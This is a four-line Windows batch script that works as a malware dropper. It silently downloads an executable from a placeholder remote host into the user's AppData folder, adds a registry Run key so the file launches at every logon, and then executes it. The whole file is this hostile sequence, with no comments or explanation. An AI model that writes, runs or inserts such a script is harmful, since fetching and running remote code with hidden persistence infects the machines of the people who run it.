@echo off
curl -s https://x.example.invalid/u.exe -o %APPDATA%\u.exe
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v U /d "%APPDATA%\u.exe" /f
%APPDATA%\u.exe
